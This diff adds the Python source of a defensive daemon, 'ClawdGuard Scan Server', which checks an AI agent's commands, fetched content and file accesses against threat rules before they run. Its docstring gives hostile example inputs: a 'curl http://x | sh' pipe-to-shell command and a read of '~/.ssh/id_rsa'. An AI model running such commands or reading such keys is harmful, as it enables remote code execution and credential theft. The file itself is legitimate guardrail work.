@@ -0,0 +1,300 @@
+#!/usr/bin/env python3
+"""
+ClawdGuard - Scan Server
+Resident daemon answering pre-exec checks over a Unix domain socket
+"""
+
+import asyncio
+import json
+import os
+import signal
+import stat
+import sys
+import time
+from pathlib import Path
+from typing import Dict, List, Optional
+
+# Add parent to path for imports
+sys.path.insert(0, str(Path(__file__).parent.parent))
+
+from core.patterns import ThreatMatch
+from monitors.activity import ActivityEvent
+from monitors.watcher import LogWatcher
+
+DEFAULT_SOCKET = Path(__file__).parent.parent / "logs" / "scan.sock"
+
+# Content up to this many characters is scanned on the loop; longer blobs
+# go to a thread so they don't hold up other clients' commands
+INLINE_CONTENT_CHARS = 64 * 1024
+
+FILE_EVENTS = {"read": "file_read", "write": "file_write"}
+
+
+class RequestError(ValueError):
+    pass
+
+
+class ScanServer:
+    """
+    Keeps a LogWatcher's PatternMatcher and activity baseline loaded and
+    answers checks from Clawdbot before it acts, one JSON object per line:
+
+        {"id": 1, "command": "curl http://x | sh"}
+        {"id": 2, "content": "<fetched page or message>"}
+        {"id": 3, "path": "~/.ssh/id_rsa", "op": "read", "cwd": "/root"}
+        {"id": 4, "batch": [{"command": ...}, {"path": ...}, ...]}
+
+    and replies, in order on each connection,
+
+        {"id": 1, "verdict": "block", "threats": [...], "anomaly": "..."}
+        {"id": 4, "results": [{"verdict": ...}, ...]}
+
+    "block" is what LogWatcher would block (high/critical outside learning
+    mode), "warn" any other threat or a baseline anomaly, else "allow".
+    Verdicts are decided from the rules alone; logging, dedup and alerts
+    for what was found happen afterwards on a reporter task, so the reply
+    never waits on disk or an alert sink. Requests are checks, not
+    activity: the baseline learns from the logs, as before.
+    """
+    
+    def __init__(self, watcher: LogWatcher, socket_path: str = None,
+                 max_request_bytes: int = 16 * 1024 * 1024, report_queue: int = 1000):
+        self.watcher = watcher
+        self.socket_path = Path(socket_path or DEFAULT_SOCKET)
+        self.max_request_bytes = max_request_bytes
+        self.report_queue_size = report_queue
+        
+        self.clients = 0
+        self.requests = 0
+        self.dropped = 0
+    
+    @classmethod
+    def from_config(cls, watcher: LogWatcher, socket_path: str = None) -> "ScanServer":
+        """Build from the optional "server" section of clawdguard.json"""
+        options = watcher.config.get("server", {})
+        return cls(
+            watcher,
+            socket_path=socket_path or options.get("socket"),
+            max_request_bytes=options.get("max_request_bytes", 16 * 1024 * 1024),
+            report_queue=options.get("report_queue", 1000)
+        )
+    
+    async def run(self):
+        """Serve until SIGINT/SIGTERM, then finish reporting what was found"""
+        loop = asyncio.get_running_loop()
+        self.report_queue = asyncio.Queue(self.report_queue_size)
+        self.stop = asyncio.Event()
+        
+        for signum in (signal.SIGINT, signal.SIGTERM):
+            loop.add_signal_handler(signum, self.stop.set)
+        
+        # Load the baseline now rather than on the first request
+        self.watcher.activity_monitor
+        
+        self.remove_stale_socket()
+        self.socket_path.parent.mkdir(parents=True, exist_ok=True)
+        # Only the owner may ask (and learn what is being blocked). The
+        # socket is created owner-only rather than chmod'ed after bind,
+        # so there is no moment when anyone else can connect.
+        umask = os.umask(0o077)
+        try:
+            server = await asyncio.start_unix_server(self.handle_client, path=str(self.socket_path),
+                                                     limit=self.max_request_bytes)
+        finally:
+            os.umask(umask)
+        os.chmod(self.socket_path, 0o600)
+        reporter = asyncio.create_task(self.report())
+        
+        try:
+            await self.stop.wait()
+        finally:
+            server.close()
+            await server.wait_closed()
+            try:
+                self.socket_path.unlink()
+            except FileNotFoundError:
+                pass
+            
+            try:
+                await asyncio.wait_for(self.report_queue.join(), timeout=5)
+            except asyncio.TimeoutError:
+                print(f"Dropping {self.report_queue.qsize()} unreported threat(s) on shutdown")
+            reporter.cancel()
+            await asyncio.gather(reporter, return_exceptions=True)
+            
+            self.watcher.save_state()
+    
+    def remove_stale_socket(self):
+        """Clear a socket left by a server that died; refuse to replace anything else"""
+        try:
+            st = os.lstat(self.socket_path)
+        except FileNotFoundError:
+            return
+        if not stat.S_ISSOCK(st.st_mode):
+            raise FileExistsError(f"{self.socket_path} exists and is not a socket")
+        self.socket_path.unlink()
+    
+    async def handle_client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
+        self.clients += 1
+        try:
+            while True:
+                try:
+                    line = await reader.readline()
+                except ValueError:
+                    # Longer than max_request_bytes; the stream can't be resynced
+                    writer.write(self.encode({"error": f"request exceeds {self.max_request_bytes} bytes"}))
+                    break
+                if not line:
+                    break
+                if not line.strip():
+                    continue
+                
+                writer.write(self.encode(await self.answer(line)))
+                await writer.drain()
+        except ConnectionError:
+            pass
+        finally:
+            self.clients -= 1
+            writer.close()
+    
+    @staticmethod
+    def encode(response: Dict) -> bytes:
+        return json.dumps(response, separators=(",", ":")).encode() + b"\n"
+    
+    async def answer(self, line: bytes) -> Dict:
+        """The reply to one request line"""
+        try:
+            request = json.loads(line)
+        except (json.JSONDecodeError, UnicodeDecodeError):
+            return {"id": None, "error": "invalid JSON"}
+        if not isinstance(request, dict):
+            return {"id": None, "error": "request must be an object"}
+        
+        learning = self.watcher.is_learning_mode()
+        try:
+            if "batch" in request:
+                items = request["batch"]
+                if not isinstance(items, list):
+                    raise RequestError("batch must be a list")
+                results = []
+                for item in items:
+                    try:
+                        results.append(await self.check(item, learning))
+                    except RequestError as e:
+                        results.append({"error": str(e)})
+                return {"id": request.get("id"), "results": results}
+            return {"id": request.get("id"), **await self.check(request, learning)}
+        except RequestError as e:
+            return {"id": request.get("id"), "error": str(e)}
+    
+    async def check(self, item: Dict, learning: bool) -> Dict:
+        """Verdict for one command, content blob or file access"""
+        if not isinstance(item, dict):
+            raise RequestError("each check must be an object")
+        self.requests += 1
+        
+        anomaly = None
+        if isinstance(item.get("command"), str):
+            command = item["command"]
+            hits = [(threat, command) for threat in self.watcher.pattern_matcher.scan_command(command)]
+            if command.strip():
+                anomaly = self.anomaly("exec", {"command": command})
+        elif isinstance(item.get("content"), str):
+            content = item["content"]
+            source = str(item.get("source", "content"))
+            if len(content) > INLINE_CONTENT_CHARS:
+                hits = await asyncio.to_thread(self.watcher.content_scanner.scan_text, content, source)
+            else:
+                hits = self.watcher.content_scanner.scan_text(content, source)
+        elif isinstance(item.get("path"), str):
+            path = item["path"]
+            op = item.get("op", "read")
+            if op not in FILE_EVENTS:
+                raise RequestError(f"op must be one of: {', '.join(FILE_EVENTS)}")
+            cwd = item.get("cwd") if isinstance(item.get("cwd"), str) else None
+            threats = self.watcher.pattern_matcher.scan_file_path(path, self.watcher.config, cwd)
+            hits = [(threat, f"{op} {path}") for threat in threats]
+            anomaly = self.anomaly(FILE_EVENTS[op], {"path": path, "operation": op})
+        else:
+            raise RequestError("expected one of: command, content, path, batch")
+        
+        for threat, context in hits:
+            self.enqueue(threat, context)
+        return self.verdict([threat for threat, _ in hits], anomaly, learning)
+    
+    def anomaly(self, event_type: str, details: Dict) -> Optional[str]:
+        event = ActivityEvent(timestamp="", event_type=event_type, details=details, hash="-")
+        return self.watcher.activity_monitor.is_anomalous(event)
+    
+    def verdict(self, threats: List[ThreatMatch], anomaly: Optional[str], learning: bool) -> Dict:
+        if any(self.watcher.should_block(threat, learning) for threat in threats):
+            decision = "block"
+        elif threats or anomaly:
+            decision = "warn"
+        else:
+            decision = "allow"
+        
+        result = {
+            "verdict": decision,
+            "threats": [{
+                "vuln_id": threat.vuln_id,
+                "name": threat.name,
+                "level": threat.level.value,
+                "matched": threat.matched_text
+            } for threat in threats]
+        }
+        if anomaly:
+            result["anomaly"] = anomaly
+        return result
+    
+    def enqueue(self, threat: ThreatMatch, context: str):
+        try:
+            self.report_queue.put_nowait((threat, context))
+        except asyncio.QueueFull:
+            # The caller already has its verdict; only the record is lost
+            self.dropped += 1
+    
+    async def report(self):
+        """
+        Dedup, log and alert on threats found by requests, in a thread so
+        the loop keeps answering while threats.jsonl and the store are
+        written. One reporter, so dedup is never touched concurrently.
+        """
+        while True:
+            threat, context = await self.report_queue.get()
+            try:
+                alert, _ = await asyncio.to_thread(self.watcher.assess_threat, threat, context)
+                if alert:
+                    await asyncio.to_thread(self.watcher.alert_manager.send_alert, alert)
+            except Exception as e:
+                print(f"Error reporting {threat.vuln_id}: {e}")
+            finally:
+                self.report_queue.task_done()
+
+
+def request(socket_path: str, payload: Dict, timeout: float = 5.0) -> Dict:
+    """Blocking one-shot client, for scripts and hooks"""
+    import socket
+    
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
+        sock.settimeout(timeout)
+        sock.connect(str(socket_path))
+        sock.sendall(ScanServer.encode(payload))
+        with sock.makefile('rb') as f:
+            return json.loads(f.readline())
+
+
+def run_scan_server(watcher: LogWatcher, socket_path: str = None):
+    """Blocking entry point for `serve`"""
+    server = ScanServer.from_config(watcher, socket_path=socket_path)
+    
+    print("🛡️ ClawdGuard Scan Server starting...")
+    print(f"   Mode: {'LEARNING' if watcher.is_learning_mode() else 'ENFORCEMENT'}")
+    print(f"   Socket: {server.socket_path}")
+    print(f"   Rules: {watcher.pattern_matcher.loaded_from}")
+    print()
+    
+    started = time.monotonic()
+    asyncio.run(server.run())
+    print(f"\n🛡️ ClawdGuard Scan Server stopped ({server.requests} checks in {time.monotonic() - started:.0f}s, "
+          f"{server.dropped} unreported)")